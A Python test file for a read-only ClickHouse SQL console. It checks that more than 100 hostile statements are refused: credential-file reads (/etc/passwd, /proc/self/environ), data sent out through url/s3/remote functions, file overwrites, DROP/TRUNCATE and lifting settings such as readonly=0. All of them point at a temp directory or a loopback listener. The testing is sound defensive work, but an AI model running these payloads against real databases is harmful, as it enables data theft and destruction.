"""The read-only console (``dossier inspect sql``) against hostile statements, on every path to the store.

The three paths are the embedded store opened by this process, the loopback
endpoint of another process that owns it, and a ClickHouse server
(``tests.chserver``: the HTTP interface over the real engine), the newest one
and each older one of ``DOSSIER_TEST_CHSERVER_PYTHONS`` (below 26.9 the
statement is parsed and formatted by this process's chDB). Each hostile
statement must be refused with a sentence that names what was refused, and
across all of them no file may appear or change and no connection may reach
the listener the statements point at. A second layer is tested on its own:
the locked session a checked statement runs in refuses writes, table
functions that reach outside and setting changes even without the guard.
"""

from __future__ import annotations

import contextlib
import os
import socket
import subprocess
import sys
import threading
from collections.abc import Iterator
from pathlib import Path

import pytest

from consumers.migrations import migrate
from dossier_runtime import sqlguard, sqlparser
from dossier_runtime.settings import Settings
from dossier_runtime.sqlguard import ConsoleLimits, ConsoleRefusal, check_tree, function_refusal
from dossier_runtime.store import Store, StoreQueryError, opened_store
from inspection.adhoc import AdhocQueryError, check_query, run_query
from tests import chserver
from tests.test_scorecard_support import reading, simulated

HOLDER = """
import sys
from pathlib import Path
from dossier_runtime.settings import Settings
from dossier_runtime.store import open_store
store = open_store(Settings(data_dir=Path(sys.argv[1])), role="writer")
print(store.kind, flush=True)
sys.stdin.read()
store.close()
"""

# Statements written by hand: every way found to write, read files, reach the network, change settings or read
# the server's state, in case, quoting, comment and nesting variants. {dir} is a directory holding victim.txt,
# {port} a listener that must see no connection.
HANDWRITTEN = [
    "INSERT INTO FUNCTION file('{dir}/victim.txt', 'LineAsString') SETTINGS engine_file_truncate_on_insert = 1 "
    "SELECT 'overwritten'",
    "INSERT INTO FUNCTION file('{dir}/new.txt', 'LineAsString') SELECT actor_id FROM events",
    "INSERT INTO FUNCTION url('http://127.0.0.1:{port}/x', 'CSV', 'a String') SELECT applicant_ref FROM events",
    "INSERT INTO FUNCTION s3('http://127.0.0.1:{port}/b/x.csv', 'CSV', 'a String') SELECT 'x'",
    "INSERT INTO FUNCTION remote('127.0.0.1:{port}', 'db', 't') SELECT 1",
    "insert into function FILE('{dir}/new.txt', 'LineAsString') select 'x'",
    "INSERT INTO events (event_id) VALUES ('x')",
    "SELECT file('/etc/passwd')",
    "SELECT file('/proc/self/environ')",
    "SELECT FILE('{dir}/victim.txt')",
    "SELECT `file`('{dir}/victim.txt')",
    "SELECT /* comment */ file ( '{dir}/victim.txt' )",
    "SELECT 1 -- comment\n, file('{dir}/victim.txt')",
    "SELECT * FROM (SELECT file('{dir}/victim.txt') AS f)",
    "WITH (SELECT file('{dir}/victim.txt')) AS f SELECT f",
    "WITH x AS (SELECT file('{dir}/victim.txt') AS f) SELECT * FROM x",
    "SELECT count() FROM events WHERE actor_id IN (SELECT file('{dir}/victim.txt'))",
    "SELECT e.seq FROM events AS e JOIN (SELECT file('{dir}/victim.txt') AS f) AS v ON 1 = 1",
    "SELECT arrayMap(x -> file(x), ['{dir}/victim.txt'])",
    "SELECT * APPLY(file) FROM (SELECT '{dir}/victim.txt' AS p)",
    "SELECT if(1, file('{dir}/victim.txt'), '')",
    "SELECT count() FROM events WHERE seq = 1 UNION ALL SELECT length(file('{dir}/victim.txt'))",
    "SELECT 1 INTERSECT SELECT length(file('{dir}/victim.txt'))",
    "EXPLAIN SELECT file('{dir}/victim.txt')",
    "EXPLAIN QUERY TREE SELECT file('{dir}/victim.txt')",
    "EXPLAIN PLAN SELECT * FROM url('http://127.0.0.1:{port}/x', 'CSV', 'a String')",
    "EXPLAIN SELECT * FROM file('{dir}/victim.txt', 'LineAsString')",
    "DESCRIBE file('{dir}/victim.txt', 'LineAsString')",
    "DESCRIBE TABLE url('http://127.0.0.1:{port}/x', 'CSV')",
    "DESCRIBE system.processes",
    "SELECT * FROM file('{dir}/victim.txt', 'LineAsString')",
    "SELECT * FROM url('http://127.0.0.1:{port}/x', 'CSV', 'a String')",
    "SELECT * FROM Url('http://127.0.0.1:{port}/x', 'CSV', 'a String')",
    "SELECT * FROM (SELECT * FROM url('http://127.0.0.1:{port}/x', 'CSV', 'a String'))",
    "WITH t AS (SELECT * FROM url('http://127.0.0.1:{port}/x', 'CSV', 'a String')) SELECT * FROM t",
    "SELECT * FROM events AS e JOIN url('http://127.0.0.1:{port}/x', 'CSV', 'a String') AS u ON 1 = 1",
    "SELECT * FROM view(SELECT * FROM url('http://127.0.0.1:{port}/x', 'CSV', 'a String'))",
    "SELECT * FROM merge('system', '.*')",
    "SELECT * FROM system.processes",
    "SELECT query FROM system.query_log",
    "SELECT * FROM system.settings",
    "SELECT * FROM system.server_settings",
    "SELECT * FROM SYSTEM.one",
    "SELECT * FROM `system`.`processes`",
    "SELECT * FROM `system.processes`",
    "SELECT * FROM INFORMATION_SCHEMA.tables",
    "SELECT * FROM information_schema.columns",
    "SELECT 1 WHERE 1 IN system.one",
    "SELECT 1 WHERE dummy IN (SELECT dummy FROM system.one)",
    "SELECT (SELECT count() FROM system.tables)",
    "SELECT * FROM events AS e, system.one",
    "SELECT count() FROM default.events",
    "SELECT 1 INTO OUTFILE '{dir}/new.txt'",
    "SELECT 1 INTO OUTFILE '{dir}/victim.txt' TRUNCATE",
    "SELECT 1 INTO OUTFILE '{dir}/new.txt' FORMAT CSV",
    "SELECT 1 FORMAT CSV",
    "SELECT 1 SETTINGS readonly = 0",
    "SELECT count() FROM numbers(1000000000000) SETTINGS max_rows_to_read = 0, max_execution_time = 0",
    "SELECT * FROM (SELECT 1 SETTINGS max_memory_usage = 0)",
    "SELECT 1 SETTINGS allow_introspection_functions = 1",
    "EXPLAIN PLAN header = 1 SELECT 1",
    "EXPLAIN TABLE OVERRIDE mysql('127.0.0.1:{port}', 'db', 't', 'u', 'p') PARTITION BY x",
    "SET readonly = 0",
    "SET max_execution_time = 0",
    "USE system",
    "KILL QUERY WHERE 1",
    "KILL MUTATION WHERE 1",
    "CREATE TEMPORARY TABLE t (a UInt8)",
    "CREATE TABLE t (a UInt8) ENGINE = Memory",
    "CREATE FUNCTION leak AS x -> file(x)",
    "CREATE VIEW v AS SELECT 1",
    "CREATE DICTIONARY d (a UInt8) PRIMARY KEY a SOURCE(FILE(path '{dir}/victim.txt' format 'CSV')) "
    "LAYOUT(FLAT()) LIFETIME(0)",
    "CREATE USER u",
    "DROP TABLE events",
    "TRUNCATE TABLE events",
    "ALTER TABLE events DELETE WHERE 1",
    "ALTER TABLE events UPDATE seq = 0 WHERE 1",
    "DELETE FROM events WHERE 1",
    "RENAME TABLE events TO old_events",
    "EXCHANGE TABLES events AND units",
    "DETACH TABLE events",
    "ATTACH TABLE events",
    "OPTIMIZE TABLE events FINAL",
    "SYSTEM FLUSH LOGS",
    "SYSTEM SHUTDOWN",
    "SYSTEM RELOAD CONFIG",
    "GRANT SELECT ON *.* TO default",
    "REVOKE SELECT ON *.* FROM default",
    "BACKUP TABLE events TO File('{dir}/backup')",
    "RESTORE TABLE events FROM File('{dir}/backup')",
    "CHECK TABLE events",
    "SHOW PROCESSLIST",
    "SHOW GRANTS",
    "SHOW USERS",
    "SHOW SETTINGS LIKE '%path%'",
    "SHOW DATABASES",
    "SHOW TABLES FROM system",
    "SHOW DICTIONARIES",
    "SHOW CLUSTERS",
    "SHOW CREATE TABLE events",
    "SHOW COLUMNS FROM processes FROM system",
    "EXISTS TABLE events",
    "SELECT 1; SELECT file('/etc/passwd')",
    "SELECT 1; DROP TABLE events",
    "SELECT * FROM events PARALLEL WITH SELECT 1",
    "SELECT dictGet('d', 'a', toUInt64(1))",
    "SELECT joinGet('events', 'seq', 'x')",
    "SELECT hasColumnInTable('127.0.0.1', {port}, 'default', 'events', 'seq')",
    "SELECT getSetting('max_execution_time')",
    "SELECT getServerSetting('user_files_path')",
    "SELECT sleep(3)",
    "SELECT sleepEachRow(1) FROM numbers(10)",
    "SELECT version(), hostName(), uptime()",
    "SELECT currentUser()",
    "SELECT getClientHTTPHeader('Authorization')",
    "SELECT aiGenerate('say hello')",
    "SELECT generateSerialID('x')",
    "SELECT addressToSymbol(1)",
    "SELECT __getScalar('x')",
    "SELECT leak('{dir}/victim.txt')",
    "SELECT * FROM {t:Identifier}",
    "SELECT * FROM {db:Identifier}.processes",
    "SELECT {c:Identifier} FROM events",
]


def statements(store: Store) -> list[str]:
    """The hand-written table, every table function the engine lists but the generators, every refused function."""
    out = list(HANDWRITTEN)
    for (name,) in store.query("SELECT name FROM system.table_functions ORDER BY name").rows:
        if name.lower() in sqlguard.TABLE_FUNCTIONS:
            continue
        local = name in {"file", "fileCluster", "filesystem", "python", "eval", "arrowstream", "sqlite"}
        target = "{dir}/victim.txt" if local or name.endswith("Local") else "http://127.0.0.1:{port}/x"
        if name == "view":
            out.append("SELECT * FROM view(SELECT 1)")
        elif name == "viewIfPermitted":
            out.append("SELECT * FROM viewIfPermitted(SELECT 1 ELSE null('a UInt8'))")
        else:
            out.append(f"SELECT * FROM {name}('{target}', 'CSV', 'a String')")
        if name in {"file", "url", "s3", "remote", "mysql", "postgresql", "hdfs", "azureBlobStorage"}:
            out.append(f"INSERT INTO FUNCTION {name}('{target}', 'CSV', 'a String') SELECT 'x'")
    for name in sorted(sqlguard.catalogue().refused):
        out.append(f"SELECT {name}('{{dir}}/victim.txt')")
    return out


class Listener:
    """A loopback port that counts the connections it is offered."""

    def __init__(self) -> None:
        self.sock = socket.create_server(("127.0.0.1", 0))
        self.port = self.sock.getsockname()[1]
        self.accepted = 0
        self.sock.settimeout(0.2)
        self._stop = threading.Event()
        self._thread = threading.Thread(target=self._run, daemon=True)
        self._thread.start()

    def _run(self) -> None:
        while not self._stop.is_set():
            try:
                conn, _ = self.sock.accept()
            except OSError:
                continue
            self.accepted += 1
            conn.close()

    def close(self) -> None:
        self._stop.set()
        self._thread.join()
        self.sock.close()


@contextlib.contextmanager
def _owned_by_another_process(data: Path) -> Iterator[Store]:
    holder = subprocess.Popen(
        [sys.executable, "-c", HOLDER, str(data)], stdin=subprocess.PIPE, stdout=subprocess.PIPE, text=True
    )
    try:
        assert holder.stdout is not None and holder.stdout.readline().strip() == "embedded"
        with opened_store(Settings(data_dir=data)) as store:
            assert store.kind == "endpoint"
            yield store
    finally:
        assert holder.stdin is not None
        holder.stdin.close()
        holder.wait(timeout=30)


@contextlib.contextmanager
def _on_a_server(base: Path, python: str | None = None) -> Iterator[Store]:
    server = chserver.start(base / "chserver", python=python)
    try:
        settings = Settings(clickhouse_url=server.fresh_database())
        with opened_store(settings, role="writer") as writer:
            migrate(writer)
        with opened_store(settings) as store:
            yield store
    finally:
        server.stop()


OLDER_ENGINES = [p for p in os.environ.get("DOSSIER_TEST_CHSERVER_PYTHONS", "").split(os.pathsep) if p]


@pytest.fixture(
    scope="module",
    params=["embedded", "endpoint", "server", *OLDER_ENGINES],
    ids=lambda p: f"server-{Path(p).parts[-3]}" if os.sep in p else p,
)
def console(request: pytest.FixtureRequest, tmp_path_factory: pytest.TempPathFactory) -> Iterator[Store]:
    """A reading store on one of the three paths; the embedded ones hold a simulated city."""
    if request.param == "server" or os.sep in request.param:
        python = None if request.param == "server" else request.param
        with _on_a_server(tmp_path_factory.mktemp("server"), python) as store:
            yield store
        return
    data, _ = simulated(tmp_path_factory, dossiers=200, seed=11)
    if request.param == "endpoint":
        with _owned_by_another_process(data) as store:
            yield store
    else:
        with reading(data) as store:
            assert store.kind == "embedded"
            yield store


def _snapshot(directory: Path) -> dict[str, bytes]:
    return {str(p.relative_to(directory)): p.read_bytes() for p in sorted(directory.rglob("*")) if p.is_file()}


def test_every_hostile_statement_is_refused_with_a_sentence(
    console: Store, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.chdir(tmp_path)
    (tmp_path / "victim.txt").write_text("original\n", encoding="utf-8")
    before = _snapshot(tmp_path)
    listener = Listener()
    table = statements(console)
    assert len(table) >= 150
    unrefused, vague = [], []
    try:
        for template in table:
            sql = template.replace("{dir}", str(tmp_path)).replace("{port}", str(listener.port))
            try:
                run_query(console, sql, {"t": "system.processes", "db": "system", "c": "x"}, limits=ConsoleLimits(5))
            except AdhocQueryError as exc:
                if str(exc).startswith("query failed"):
                    vague.append((sql, str(exc)))
            else:
                unrefused.append(sql)
    finally:
        listener.close()
    assert unrefused == []
    assert vague == []
    assert listener.accepted == 0
    assert _snapshot(tmp_path) == before
    assert console.query("SELECT count() FROM events").scalar() is not None  # the store still answers


READING = [
    ("SELECT count() AS n FROM events", None),
    ("SELECT countIf(seq > 1) AS n, uniqExact(dossier_id) AS d FROM events", None),
    ("WITH firsts AS (SELECT dossier_id FROM events WHERE seq = 1) SELECT count() AS n FROM firsts", None),
    ("SELECT seq, row_number() OVER (PARTITION BY dossier_id ORDER BY seq) AS r FROM events LIMIT 3", None),
    ("SELECT arrayMap(x -> x * 2, [1, 2]) AS a, sumIf(number, number > 1) AS s FROM numbers(3)", None),
    ("SELECT number FROM numbers(5) WHERE number IN (SELECT number FROM numbers(2))", None),
    ("SELECT {n:UInt8} + 1 AS n", None),
    ("SELECT * FROM values('a UInt8', 1, 2)", None),
    ("SELECT e.seq FROM dossier.events AS e LIMIT 1", "embedded-only"),
    ("EXPLAIN SELECT count() FROM events", None),
    ("EXPLAIN AST SELECT 1", None),
    ("SHOW TABLES", None),
    ("SHOW COLUMNS FROM events", None),
    ("DESCRIBE events", None),
    ("DESC TABLE `units`", None),
]


@pytest.mark.parametrize(("sql", "only"), READING)
def test_reading_statements_run(console: Store, sql: str, only: str | None) -> None:
    if only == "embedded-only" and console.kind == "server":
        pytest.skip("the server's database has another name")
    out = run_query(console, sql, {"n": "41"})
    assert out.result.column_names


def test_limits_stop_a_query_and_say_which(console: Store) -> None:
    with pytest.raises(AdhocQueryError, match=r"reads more than 1,000 rows \(--max-rows-to-read\)"):
        run_query(console, "SELECT count() FROM numbers(1000000)", {}, limits=ConsoleLimits(max_rows_to_read=1000))
    slow = "SELECT count() FROM numbers(100000000) AS a, numbers(1000) AS b WHERE a.number + b.number = 7"
    with pytest.raises(AdhocQueryError, match=r"stopped after 1 s \(--timeout\)"):
        run_query(console, slow, {}, limits=ConsoleLimits(timeout_s=1))
    with pytest.raises(AdhocQueryError, match=r"more than 0.0625 GiB of memory \(--max-memory\)"):
        run_query(
            console,
            "SELECT groupArray(repeat('x', 1000)) FROM numbers(1000000)",
            {},
            limits=ConsoleLimits(max_memory=64 * 1024**2),
        )
    cut = run_query(console, "SELECT number FROM numbers(100)", {}, limits=ConsoleLimits(max_result_rows=10))
    assert cut.truncated and len(cut.result.rows) == 10


ENGINE_REFUSES = [
    "INSERT INTO FUNCTION file('{dir}/new.txt', 'LineAsString') SELECT 'x'",
    "SELECT * FROM file('{dir}/victim.txt', 'LineAsString')",
    "SELECT * FROM url('http://127.0.0.1:{port}/x', 'CSV', 'a String')",
    "SELECT 1 SETTINGS max_execution_time = 0",
    "SELECT 1 SETTINGS readonly = 0",
    "CREATE TEMPORARY TABLE t (a UInt8)",
    "INSERT INTO units (unit_code) VALUES ('x')",
]


@pytest.mark.parametrize("template", ENGINE_REFUSES)
def test_the_locked_session_refuses_on_its_own(
    console: Store, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, template: str
) -> None:
    """Defence in depth: a statement that got past the guard still cannot write, reach out or lift a limit."""
    monkeypatch.chdir(tmp_path)
    (tmp_path / "victim.txt").write_text("original\n", encoding="utf-8")
    listener = Listener()
    try:
        sql = template.replace("{dir}", str(tmp_path)).replace("{port}", str(listener.port))
        with pytest.raises(StoreQueryError, match=r"(?i)readonly|read-only"):
            console.query_console(sql, {}, ConsoleLimits())
    finally:
        listener.close()
    assert listener.accepted == 0
    assert sorted(p.name for p in tmp_path.iterdir()) == ["victim.txt"]


def test_every_function_of_the_engine_is_reviewed(console: Store) -> None:
    """A function the lists do not name is refused; this names them so that a newer engine gets a review."""
    if console.kind != "embedded":
        pytest.skip("one engine is enough")
    cat = sqlguard.catalogue()
    rows = console.query("SELECT name, alias_to FROM system.functions").rows
    known = {name for name, _ in rows}
    unreviewed = sorted(n for n in known if n not in cat.allowed and n.lower() not in cat.refused)
    assert unreviewed == []
    assert not {n.lower() for n in cat.allowed} & set(cat.refused)
    for name, alias in rows:
        if alias and alias in known:
            assert (function_refusal(name) is None) == (function_refusal(alias) is None), (name, alias)


@pytest.mark.parametrize(
    ("name", "allowed"),
    [
        ("countIf", True),
        ("uniqExactStateIf", True),
        ("sumMapMerge", True),
        ("quantilesTDigestArrayIf", True),
        ("COUNT", True),
        ("fileIf", False),
        ("arrayMapIf", False),
        ("FILE", False),
        ("HostName", False),
        ("noSuchFunction", False),
    ],
)
def test_functions_with_combinators_and_case(name: str, allowed: bool) -> None:
    assert (function_refusal(name) is None) is allowed


def test_a_tree_of_unknown_kind_is_refused() -> None:
    with pytest.raises(ConsoleRefusal, match="not a reading statement"):
        check_tree({"type": "SomeFutureQuery"}, database="dossier", databases=["dossier"], tables=[])
    nested = {"type": "SelectWithUnionQuery", "list_of_selects": {"type": "FutureNode"}}
    with pytest.raises(ConsoleRefusal, match="not allowed inside a query"):
        check_tree(nested, database="dossier", databases=["dossier"], tables=[])


def _parses_itself(store: Store) -> bool:
    found = store.query(
        "SELECT count() FROM system.functions WHERE name IN {f:Array(String)}", {"f": list(sqlparser.FUNCTIONS)}
    )
    return bool(found.scalar() == len(sqlparser.FUNCTIONS))


def test_what_runs_is_the_formatting_of_the_checked_tree(console: Store) -> None:
    if console.kind != "embedded" and _parses_itself(console):
        pytest.skip("one engine that parses itself is enough")
    assert check_query(console, "select   count()  from events -- note") == "SELECT count() FROM events"
    assert check_query(console, f"DESCRIBE {console.database}.events") == "DESCRIBE TABLE `events`"
    assert check_query(console, "SELECT {n:UInt8}+1 AS n") == "SELECT {n:UInt8} + 1 AS n"


def test_without_a_parser_anywhere_the_console_says_so(console: Store, monkeypatch: pytest.MonkeyPatch) -> None:
    """A store below 26.9 with a client chDB below it too (chdb 4.4 accepts chdb-core 26.7): one sentence."""
    if _parses_itself(console):
        pytest.skip("the store's engine parses queries itself")
    sqlparser.release()
    monkeypatch.setattr(sqlparser, "SINCE", (99, 0))  # as if this client's chDB were older than the parser
    try:
        with pytest.raises(AdhocQueryError) as refused:
            run_query(console, "SELECT 1", {})
    finally:
        sqlparser.release()
    assert str(refused.value).startswith("the store's ClickHouse (26.")
    assert "cannot parse a query into a tree" in str(refused.value)
    assert "neither has this client's chDB (ClickHouse 26.9" in str(refused.value)
    assert "pip install -U 'chdb-core>=99.0'" in str(refused.value)
    assert run_query(console, "DESCRIBE events", {}).result.rows  # DESCRIBE needs no parser


def test_the_client_always_has_the_parser() -> None:
    """The console on a server below 26.9 parses with this client's chDB: the dependency holds it to 26.9."""
    pyproject = (Path(__file__).resolve().parent.parent / "pyproject.toml").read_text(encoding="utf-8")
    assert f'"chdb-core>={sqlparser.SINCE[0]}.{sqlparser.SINCE[1]}"' in pyproject


PARSE_SESSION = """
import sys
from pathlib import Path
from dossier_runtime import sqlparser
from dossier_runtime.settings import Settings
from dossier_runtime.store import opened_store
parser = sqlparser.local_parser()
print(parser.query("SELECT formatQueryFromJSON(parseQueryToJSON('select  1 -- x'))").scalar())
print(sqlparser.local_parser() is parser)
with opened_store(Settings(data_dir=Path(sys.argv[1])), role="writer") as store:
    print(store.kind, store.query("SELECT 2").scalar())
    try:
        sqlparser.local_parser()
    except sqlparser.ParserUnavailableError as exc:
        print("refused:", exc)
print(sqlparser.local_parser().query("SELECT 3").scalar())
try:
    parser.query("SELECT 4")
except Exception as exc:
    print("closed:", type(exc).__name__)
"""


def test_the_parse_session_gives_the_engine_to_a_store(tmp_path: Path) -> None:
    """chDB opens one path per process: the parse session is closed for a store and opens again after it."""
    done = subprocess.run(
        [sys.executable, "-c", PARSE_SESSION, str(tmp_path / "data")], capture_output=True, text=True, timeout=120
    )
    assert done.returncode == 0, done.stderr
    lines = done.stdout.splitlines()
    assert lines[:3] == ["SELECT 1", "True", "embedded 2"]
    assert lines[3].startswith("refused: this client's chDB (ClickHouse 26.9") and "cannot open a session" in lines[3]
    assert lines[4:] == ["3", "closed: StoreQueryError"], lines


def test_text_that_is_not_utf8_is_named_not_a_traceback(console: Store) -> None:
    with pytest.raises(AdhocQueryError, match="not UTF-8"):
        run_query(console, "SELECT x'ab' AS b", {})
    shown = run_query(console, "SELECT unhex('ab') AS b, 'Trương Thị' AS n", {})
    assert shown.result.rows == [("\\xab", "Trương Thị")]
